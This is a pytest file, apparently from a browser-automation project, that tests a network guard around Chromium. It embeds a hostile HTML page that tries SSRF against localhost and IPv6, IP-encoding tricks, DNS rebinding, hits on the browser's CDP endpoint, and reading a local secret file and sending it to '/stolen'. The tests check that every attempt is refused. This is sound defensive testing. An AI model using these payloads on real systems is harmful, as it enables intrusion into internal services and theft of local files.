"""A hostile page in a real Chromium behind the guard: it reaches no private address and reads no local file."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import suppress
from pathlib import Path

import psutil
import pytest
from playwright.async_api import Error

from skyvern.browser.host.browser import BrowserOptions, HostedBrowser, Surroundings
from skyvern.browser.host.chromium import find_chromium, user_agent
from skyvern.domain.addresses import AddressRules
from skyvern.net.policy import ProxyPolicy

ATTACK = """<!doctype html><title>attack</title><body>
<img src="{v}/img"><iframe src="{v}/frame"></iframe>
<link rel=stylesheet href="{v}/css"><script src="{v}/script"></script>
<object data="{v}/object"></object><embed src="{v}/embed"><video src="{v}/video" autoplay></video>
<link rel=prefetch href="{v}/prefetch"><link rel=preconnect href="{v}"><link rel=icon href="{v}/icon">
<link rel=preload as=image href="{v}/preload"><form id=form method=post target=posted action="{v}/form"></form>
<iframe name=posted></iframe>
<img src="http://localhost:{port}/localhost"><img src="http://[::1]:{port}/six"><img src="http://0.0.0.0:{port}/zero">
<img src="http://[::ffff:127.0.0.1]:{port}/mapped"><img src="http://2130706433:{port}/number">
<img src="http://name.test:{port}/name"><img src="https://127.0.0.1:{port}/tls"><img src="/redirect">
<img src="{browser}/json/version"><img src="file://{secret}"><iframe src="file://{secret}"></iframe>
<script>
const quiet = (work) => {{ try {{ const done = work(); if (done && done.catch) done.catch(() => 0) }} catch {{}} }};
quiet(() => fetch('{v}/fetch', {{mode: 'no-cors'}}));
quiet(() => fetch('{browser}/json/new?about:blank', {{mode: 'no-cors', method: 'PUT'}}));
quiet(() => fetch('file://{secret}').then(r => r.text()).then(text => fetch('/stolen?' + text)));
quiet(() => navigator.sendBeacon('{v}/beacon', 'x'));
quiet(() => new WebSocket('ws://127.0.0.1:{port}/ws'));
quiet(() => new WebSocket('wss://127.0.0.1:{port}/wss'));
quiet(() => new EventSource('{v}/events'));
quiet(() => new WebTransport('https://127.0.0.1:{port}/transport').ready);
quiet(() => new Worker(URL.createObjectURL(new Blob(["fetch('{v}/worker', {{mode: 'no-cors'}})"]))));
quiet(() => new SharedWorker(URL.createObjectURL(new Blob(["fetch('{v}/shared', {{mode: 'no-cors'}})"]))));
quiet(() => navigator.serviceWorker.register('/sw.js'));
quiet(() => document.getElementById('form').submit());
quiet(() => window.open('{v}/popup'));
quiet(() => {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}]}});
    pc.createDataChannel('x'); return pc.createOffer().then(offer => pc.setLocalDescription(offer)) }});
(async () => {{ for (let i = 0; i < 6; i++)
    await fetch(`http://rebind.test:${{i ? {port} : location.port}}/rebind${{i}}`, {{mode: 'no-cors'}}).catch(() => 0);
    document.title = 'done' }})();
</script>"""


class Victim:
    """A private service on one port, over IPv4, IPv6 and UDP, that counts everybody who as much as knocks."""

    def __init__(self) -> None:
        self.port = 0
        self.knocks: list[bytes] = []

    async def knocked(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.knocks.append(b"a connection")
        with suppress(OSError):
            self.knocks.append((await reader.read(300)).partition(b"\r")[0])
        writer.close()


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self, victim: Victim) -> None:
        self._victim = victim

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._victim.knocks.append(b"a datagram")


@pytest.fixture
async def victim() -> AsyncIterator[Victim]:
    found = Victim()
    servers = [await asyncio.start_server(found.knocked, "0.0.0.0", 0)]
    found.port = servers[0].sockets[0].getsockname()[1]
    if socket.has_ipv6:
        with suppress(OSError):
            servers.append(await asyncio.start_server(found.knocked, "::1", found.port))
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: Datagrams(found), local_addr=("0.0.0.0", found.port)
    )
    yield found
    transport.close()
    for server in servers:
        server.close()


@pytest.fixture
async def open_guarded(tmp_path: Path) -> AsyncIterator[Callable[[str], Awaitable[HostedBrowser]]]:
    """Opens a browser in this process whose names resolve as the attacker likes."""
    opened: list[HostedBrowser] = []
    turns = iter(range(10**6))

    async def resolve(host: str, port: int) -> Sequence[str]:
        if host == "rebind.test":
            return ["93.184.216.34", "127.0.0.1"] if next(turns) % 2 else ["127.0.0.1"]
        if host in ("localhost", "name.test"):
            return ["::1", "127.0.0.1"]
        if any(letter in host for letter in "ghijklmnopqrstuvwxyz"):
            raise OSError("no such name")
        return [host]

    async def start(networks: str) -> HostedBrowser:
        binary = find_chromium()
        around = Surroundings(
            binary=binary,
            agent=await user_agent(binary),
            publish=lambda event, details: None,
            control_ports=lambda: frozenset().union(*(browser.control_ports for browser in opened)),
            resolve=resolve,
        )
        policy = ProxyPolicy(rules=AddressRules.parse(networks))
        browser = HostedBrowser("attacked", tmp_path / "attacked", around, BrowserOptions(policy=policy))
        opened.append(browser)
        await browser.open()
        return browser

    yield start
    for browser in opened:
        await browser.close()


async def test_an_attack_page_reaches_nothing_private(site, attach, victim: Victim, open_guarded, tmp_path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the-secret")
    guarded = await open_guarded(site.network)
    private = f"http://127.0.0.1:{victim.port}"
    page_text = ATTACK.format(v=private, port=victim.port, browser=guarded.info().cdp_url, secret=secret)
    site.html("/attack", page_text)
    site.pages["/redirect"] = (302, {"Location": f"{private}/redirected"}, b"")
    site.pages["/away"] = (302, {"Location": f"{private}/navigated"}, b"")
    worker = f"self.addEventListener('install', e => e.waitUntil(fetch('{private}/sw', {{mode: 'no-cors'}})))"
    site.pages["/sw.js"] = (200, {"Content-Type": "text/javascript"}, worker.encode())
    async with attach(guarded.info().cdp_url) as playwright:
        context = playwright.contexts[0]
        page = context.pages[0]
        await page.goto(f"{site.url}/attack", wait_until="load")
        await page.wait_for_function("document.title == 'done'")
        await page.wait_for_timeout(1500)
        pages_before_away = len(context.pages)
        away = await page.goto(f"{site.url}/away")
    assert away is not None
    assert away.status == 403
    assert victim.knocks == []
    assert "/stolen" not in site.hits
    assert "/rebind0" in site.hits
    assert pages_before_away == 2
    refused = {(item.host, item.kind) for item in guarded.refusals() if item.port == victim.port}
    hosts = {"127.0.0.1", "localhost", "::1", "0.0.0.0", "name.test", "rebind.test"}
    assert {(host, "address-refused") for host in hosts} <= refused
    assert any(item.port == guarded.info().proxy_port or item.port != victim.port for item in guarded.refusals())


@pytest.mark.parametrize("form", ["file://{}", "FILE://{}", "view-source:file://{}", "file://localhost{}"])
async def test_no_local_file_opens(attach, open_guarded, tmp_path: Path, form: str) -> None:
    secret = tmp_path / "secret.html"
    secret.write_text("<title>the-secret</title>")
    guarded = await open_guarded("")
    async with attach(guarded.info().cdp_url) as playwright:
        for page in (playwright.contexts[0].pages[0], await playwright.contexts[0].new_page()):
            with suppress(Error):
                await page.goto(form.format(secret), timeout=4000)
            assert "the-secret" not in await page.title()
            assert "the-secret" not in await page.content()


async def test_no_local_file_opens_in_a_page_born_with_it(attach, open_guarded, tmp_path: Path) -> None:
    secret = tmp_path / "secret.html"
    secret.write_text("<title>the-secret</title>")
    guarded = await open_guarded("")
    async with attach(guarded.info().cdp_url) as playwright:
        session = await playwright.new_browser_cdp_session()
        born = await session.send("Target.createTarget", {"url": f"file://{secret}"})
        async with asyncio.timeout(20):
            while True:
                info = (await session.send("Target.getTargetInfo", {"targetId": born["targetId"]}))["targetInfo"]
                if info["url"] == "about:blank" and "the-secret" not in info["title"]:
                    break
                await asyncio.sleep(0.05)


async def test_a_refused_page_says_why(attach, open_guarded, victim: Victim) -> None:
    guarded = await open_guarded("")
    async with attach(guarded.info().cdp_url) as playwright:
        page = playwright.contexts[0].pages[0]
        reply = await page.goto(f"http://127.0.0.1:{victim.port}/")
        assert reply is not None
        assert (reply.status, reply.headers["x-skyvern-guard"]) == (403, "address-refused")
        assert "SKYVERN_ALLOWED_PRIVATE_NETWORKS" in await page.inner_text("body")


async def test_even_listed_the_browsers_own_ports_are_shut(attach, open_guarded) -> None:
    guarded = await open_guarded("127.0.0.0/8")
    async with attach(guarded.info().cdp_url) as playwright:
        reply = await playwright.contexts[0].pages[0].goto(f"{guarded.info().cdp_url}/json/version")
        assert reply is not None
        assert reply.status == 403


async def test_a_close_that_is_cut_short_still_ends_chromium(open_guarded) -> None:
    guarded = await open_guarded("")
    leader = psutil.Process(guarded.info().pid)
    await guarded.start_recording()
    closing = asyncio.create_task(guarded.close(keep_files=True))
    await asyncio.sleep(0)
    closing.cancel()
    with suppress(asyncio.CancelledError):
        await closing
    async with asyncio.timeout(10):
        await guarded._wait_ended()
    assert not leader.is_running() or leader.status() == psutil.STATUS_ZOMBIE


async def test_a_browser_without_the_hosts_connection_is_ended(open_guarded) -> None:
    guarded = await open_guarded("")
    await guarded.cdp.close()
    async with asyncio.timeout(10):
        await guarded._wait_ended()
